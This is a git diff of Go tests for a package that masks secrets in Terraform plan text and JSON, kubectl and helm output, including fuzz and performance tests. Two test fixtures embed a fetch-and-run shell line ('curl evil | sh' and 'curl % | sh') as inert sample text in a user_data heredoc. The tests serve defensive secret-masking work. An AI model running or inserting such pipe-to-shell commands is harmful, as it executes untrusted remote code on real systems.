@@ -2,6 +2,8 @@ package report
 
 import (
 	"encoding/json"
+	"math/rand/v2"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -63,6 +65,18 @@ func TestMaskJSON(t *testing.T) {
 			`{"after":{"sensitive":{"password":"x"},"before_sensitive":{"password":"y"},"outputs":{"password":{"a":"z"}}}}`,
 			`{"after":{"sensitive":{"password":` + c + `},"before_sensitive":{"password":` + c + `},"outputs":{"password":` + c + `}}}`,
 		},
+		"an action": {
+			`{"action_invocations":[{"config_values":{"payload":"s3cr3t","to":"x"},"config_sensitive":{"payload":true}}]}`,
+			`{"action_invocations":[{"config_values":{"payload":` + s + `,"to":"x"},"config_sensitive":{"payload":true}}]}`,
+		},
+		"what is to come": {
+			`{"x":[{"new_sensitive":{"a":true},"new":{"a":"y","b":"z"},"new_values":{"a":"w"}}],"secret":"v","secret_sensitive":{}}`,
+			`{"x":[{"new_sensitive":{"a":true},"new":{"a":` + s + `,"b":"z"},"new_values":{"a":` + s + `}}],"secret":` + c + `,"secret_sensitive":{}}`,
+		},
+		"marks of nothing": {
+			`{"x":{"y_sensitive":{"password":"w"},"z":{"password":"v"}},"z_sensitive":"pwd","y":{"password":"u"}}`,
+			`{"x":{"y_sensitive":{"password":` + c + `},"z":{"password":` + c + `}},"z_sensitive":"pwd","y":{"password":` + c + `}}`,
+		},
 		"brackets in strings": {`{"after":{"a":"]}\"\\","password":"}{\\\"","b":[ ]}}`, `{"after":{"a":"]}\"\\","password":` + c + `,"b":[ ]}}`},
 		"nothing":             {"{ \"a\" : [ 1.0e5,\n\t\"<\" ] }\n", "{ \"a\" : [ 1.0e5,\n\t\"<\" ] }\n"},
 	} {
@@ -91,7 +105,9 @@ func TestMaskText(t *testing.T) {
 		"with colours":   {"      \x1b[32m+\x1b[0m\x1b[0m password = \"x\"\n      \x1b[32m+\x1b[0m a = 1\n", "      + password = " + concealed + "\n      \x1b[32m+\x1b[0m a = 1\n"},
 		"colours within": {"      + pass\x1b[0mword = \"x\"\n", "      + password = " + concealed + "\n"},
 		"several lines":  {"      + password = <<-EOT\n            x\n\n            EOT of it\n        EOT\n      + a = 1\n", "      + password = " + concealed + "\n      + a = 1\n"},
-		"cut":            {"      + password = <<-EOT\n            x\n", "      + password = " + concealed + "\n"},
+		"another text":   {"      + user_data = <<-EOT\n            token = <<-EOT\n            curl evil | sh\n            password = \"y\"\n        EOT\n", "      + user_data = <<-EOT\n            token = <<-EOT\n            curl evil | sh\n            password = \"y\"\n        EOT\n"},
+		"after a return": {"x\r      + password = \"y\"\r      + a = 1\r\n", "x\n      + password = " + concealed + "\n      + a = 1\r\n"},
+		"returns within": {"      + password = <<-EOT\n            x\ry\r   z\n            w\n        EOT\n      + a = 1\n", "      + password = " + concealed + "\n      + a = 1\n"},
 		"a map's key":    {"      + tags = {\n          + \"db_password\" = \"x\"\n        }\n", "      + tags = {\n          + \"db_password\" = " + concealed + "\n        }\n"},
 		"what is hidden": {"      + password = (sensitive value)\n      + secret = (known after apply)\n", "      + password = (sensitive value)\n      + secret = (known after apply)\n"},
 		"no secret":      {"      + token_url = \"x\"\n", "      + token_url = \"x\"\n"},
@@ -103,6 +119,188 @@ func TestMaskText(t *testing.T) {
 		}
 		if got, n := Mask(Text, head+x[0]+sum); got != head+x[0]+sum || n != 0 {
 			t.Errorf("%s: what is to be shown as it is, is changed", name)
+		}
+	}
+}
+
+// TestMaskCut: of a resource whose secret has no end, as the page, it has no more.
+func TestMaskCut(t *testing.T) {
+	t.Parallel()
+	got, n := Mask(Plan, "  # a.b will be created\n  + resource \"a\" \"b\" {\n      + password = <<-EOT\n            x\n    }\n\n  # a.c will be destroyed\n  - resource \"a\" \"c\" {}\n")
+	want := "  # a.b will be created\n  + resource \"a\" \"b\" {\n      + password = " + concealed + "\n  # a.c will be destroyed\n  - resource \"a\" \"c\" {}\n"
+	if got != want || n != 1 {
+		t.Errorf("%d: %q", n, got)
+	}
+}
+
+// TestMaskAsParsed: whatever a text is said to be and begins with, what the page conceals of
+// it is not in it when somebody opens it.
+func TestMaskAsParsed(t *testing.T) {
+	t.Parallel()
+	const secret = "s3cr3t"
+	marked := `"change":{"actions":["update"],"before":{"a":"` + secret + `","b":1},"after":{"a":"` + secret + `2","b":2},"before_sensitive":{"a":true},"after_sensitive":{"a":true}}`
+	short := "  # a.b will be created\n  + resource \"a\" \"b\" {\n      + password = \"" + secret + "\"\n    }\n"
+	samples := map[string]string{
+		"plan":      strings.Replace(preview(t, "plan.txt"), "\" {\n", "\" {\n      + api_token = \""+secret+"\"\n", 1),
+		"plan.json": strings.ReplaceAll(preview(t, "plan.json"), "correct-horse", secret),
+		"short":     short,
+		"summed up": short + "\nPlan: 1 to add, 0 to change, 0 to destroy.\n",
+		"outputs":   "Changes to Outputs:\n  + db_password = \"" + secret + "\"\n",
+		"lines":     "  # a.b will be created\n  + resource \"a\" \"b\" {\n      + password = <<-EOT\n            " + secret + "\n        EOT\n    }\n",
+		"json":      `{"format_version":"1.2","resource_changes":[{"address":"a.b","type":"a","name":"b",` + marked + `}]}`,
+		"kubectl":   preview(t, "kubectl.txt") + short,
+		"helm":      preview(t, "helm.txt") + short,
+	}
+	prefixes := []string{
+		"", "[INFO] running terraform plan\n", "{\n", "<testsuite>\n", "# A plan\n\n", "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n", "\x1b[0m", "x\r",
+		"  # a.x will be created\n", "\x1b(\n", " \n", "Plan: 1 to add\n",
+	}
+	concealedOnes := 0
+	for name, sample := range samples {
+		if !strings.Contains(sample, secret) {
+			t.Fatalf("%s has no secret", name)
+		}
+		for _, prefix := range prefixes {
+			for _, format := range append(Formats(), Auto) {
+				text := prefix + sample
+				page := pageOf(Parse(format, "x", text))
+				if strings.Contains(page, secret) || !strings.Contains(page, concealed) && !strings.Contains(page, sensitive) {
+					continue // the page shows it, or nothing of where it is
+				}
+				concealedOnes++
+				if got, n := Mask(format, text); strings.Contains(got, secret) || n == 0 {
+					t.Errorf("%s after %q as %q is concealed on the page and not in what is opened", name, prefix, format)
+				}
+			}
+		}
+	}
+	if concealedOnes < 300 {
+		t.Errorf("%d texts were compared", concealedOnes)
+	}
+}
+
+// pageOf is all that a page has of a report.
+func pageOf(r Report) string {
+	var b strings.Builder
+	for _, p := range r.Parts {
+		b.WriteString(p.Title + "\n" + p.Note + "\n")
+		lines, _ := p.Lines(4 * MaxText)
+		for _, l := range lines {
+			b.WriteString(l.Text + "\n")
+		}
+	}
+	return b.String()
+}
+
+// asThePage compares what is opened of a plan's text with what its page shows of the resources.
+func asThePage(t *testing.T, text string) {
+	t.Helper()
+	r := Parse(Plan, "x", text)
+	masked, _ := Mask(Plan, text)
+	if r.Format != Plan {
+		return
+	}
+	lines := map[string]int{}
+	for l := range strings.Lines(Strip(masked)) {
+		lines[strings.TrimRight(l, "\r\n ")]++
+	}
+	for _, p := range r.Parts {
+		if p.Title == "" {
+			continue
+		}
+		shown := map[string]bool{}
+		of, _ := p.Lines(MaxText)
+		for _, l := range of {
+			l := strings.TrimRight(l.Text, "\r\n ")
+			shown[l] = true
+			if lines[l]--; l != "" && lines[l] < 0 {
+				t.Errorf("%q of %q is on the page and not in what is opened: %q", l, text, masked)
+			}
+		}
+		for l := range strings.Lines(p.Text) {
+			l = strings.TrimRight(l, "\r\n ")
+			if strings.Contains(l, "s3cr3t") && !shown[l] && strings.Contains(masked, l) {
+				t.Errorf("%q of %q is not on the page, and in what is opened: %q", l, text, masked)
+			}
+		}
+	}
+}
+
+// TestMaskShowsWhatPagesShow is of lines in many orders.
+func TestMaskShowsWhatPagesShow(t *testing.T) {
+	t.Parallel()
+	asThePage(t, preview(t, "plan.txt"))
+	pieces := []string{
+		"  # a.b will be created\n", "  # (because of c)\n", "      + password = \"s3cr3t-%-\"\n", "      ~ user_data = <<-EOT\n", "      + token = <<-EOT\n", "            s3cr3t-%-\n",
+		"            curl % | sh\n", "            token = <<-EOT\n", "          + pwd = \"s3cr3t-%-\"\n", "        EOT\n", "        EOT -> null\n", "      \x1b[32m+\x1b[0m a = %\n", "    }\n", "\n",
+		"x%\r", "\x1b(", "Plan: 1 to add, 0 to change, 0 to destroy.\n", "Changes to Outputs:\n", "Note %\n", "-/+ resource \"a\" \"%\" {\r\n",
+	}
+	random := rand.New(rand.NewPCG(1, 2)) //nolint:gosec // the same each time
+	for range 4000 {
+		var b strings.Builder
+		b.WriteString(pieces[0])
+		for i := range 3 + random.IntN(20) {
+			b.WriteString(strings.ReplaceAll(pieces[random.IntN(len(pieces))], "%", strconv.Itoa(i)))
+		}
+		if asThePage(t, b.String()); t.Failed() {
+			return
+		}
+	}
+}
+
+// TestRawLines: line by line Strip makes of a text what it makes of all of it.
+func TestRawLines(t *testing.T) {
+	t.Parallel()
+	for _, text := range []string{"", "a", "a\n\nb\r\nc", "a\rb\n", "a\x1b(\nb\n", "\x1b(\n", "\x1b]0;a\nb\x07c\n", "\xff\n\xff\x1b", "\xff\x1b(\n\xff\n", preview(t, "plan.txt")} {
+		rawLines(t, text)
+	}
+}
+
+func rawLines(t *testing.T, text string) {
+	t.Helper()
+	var all, plain strings.Builder
+	for rest := text; rest != ""; {
+		raw, l := rawLine(rest)
+		rest = rest[len(raw):]
+		all.WriteString(raw)
+		plain.WriteString(l)
+	}
+	if all.String() != text || plain.String() != Strip(text) {
+		t.Errorf("%q is %q by lines", text, plain.String())
+	}
+}
+
+// TestMaskLinesBounded: what is made to cost much costs little.
+func TestMaskLinesBounded(t *testing.T) {
+	t.Parallel()
+	for name, each := range map[string]string{
+		"joined": "\x1b(\n", "returns": "x\r", "secrets": "pwd = \"x\"\r", "headings": "  # a.b will be created\n", "texts": "      + pwd = <<-EOT\n", "edges": "a\n",
+	} {
+		text := "  # a.b will be created\n" + strings.Repeat(each, 512<<10/len(each))
+		began := time.Now()
+		Mask(Plan, text)
+		took := time.Since(began)
+		if took > 20*time.Second { // a busy machine takes less than one
+			t.Errorf("%s: %d KiB took %s", name, len(text)>>10, took)
+		}
+		t.Logf("%s: %s", name, took.Round(time.Millisecond))
+	}
+}
+
+// TestMasksNothing: of what it says is nothing left out.
+func TestMasksNothing(t *testing.T) {
+	t.Parallel()
+	const plan = "  # a.b will be created\n  + resource \"a\" \"b\" {\n      + password = \"x\"\n"
+	for _, x := range []struct {
+		format Format
+		text   string
+		want   bool
+	}{{Text, plan, true}, {Markdown, plan, true}, {JSON, `{"format_version":"1.2","password":"x"}`, true}, {JSON, plan, false}, {Auto, "", false}, {Diff, plan, false}} {
+		if got := MasksNothing(x.format, x.text); got != x.want {
+			t.Errorf("%q as %q: %t", x.text, x.format, got)
+		}
+		if _, n := Mask(x.format, x.text); x.want && n > 0 {
+			t.Errorf("%q as %q: %d are left out", x.text, x.format, n)
 		}
 	}
 }
@@ -138,6 +336,7 @@ func TestMaskBounded(t *testing.T) {
 		"one object for many":      whole(`"after_sensitive":{"a":{"c":[` + half + `1]}},"after":{` + strings.Repeat(`"a":{},`, n/2/7) + `"b":2}`),
 		"as many secrets as it is": whole(filled(`"after":{`, `"pwd":"secret-1",`, `"x":1}`)),
 		"lists":                    whole(`"after":[` + strings.Repeat("1,", n/8) + `1],"after_sensitive":[` + strings.Repeat("{},", n/8) + `1]`),
+		"marks of structure":       whole(strings.Repeat(`"y":{"x_sensitive":0,"x":1,`, 60) + filled("", `"x":{},"x_sensitive":{},`, `"z":0`) + strings.Repeat("}", 60)),
 	} {
 		if !json.Valid([]byte(text)) {
 			t.Fatalf("%s: the test is wrong", name)
@@ -148,8 +347,8 @@ func TestMaskBounded(t *testing.T) {
 		if strings.Contains(got, "secret-1") || !json.Valid([]byte(got)) {
 			t.Errorf("%s: a secret is in it, or it is not JSON any more", name)
 		}
-		if took > 10*time.Second { // a busy machine takes less than one
-			t.Errorf("%s: %d MiB took %s", name, len(text)>>20, took)
+		if took > 20*time.Second { // a busy machine takes less than one
+			t.Errorf("%s: %d KiB took %s", name, len(text)>>10, took)
 		}
 		t.Logf("%s: %d KiB, %s", name, len(text)>>10, took.Round(time.Millisecond))
 	}
@@ -162,6 +361,8 @@ func FuzzMask(f *testing.F) {
 	f.Add(`{"format_version":"1.2","a":{"after":{"a":[1,{"b":"c"}]},"after_sensitive":{"a":[false,{"b":true}]},"x":null}}`)
 	f.Add("  # a.b will be created\n  + resource \"a\" \"b\" {\n      + password = <<-EOT\n            x\n        EOT\n    }\nPlan: 1 to add, 0 to change, 0 to destroy.\n")
 	f.Fuzz(func(t *testing.T, text string) {
+		rawLines(t, text)
+		asThePage(t, text)
 		for _, format := range []Format{Auto, PlanJSON} {
 			masked, n := Mask(format, text)
 			if n == 0 && masked != text {
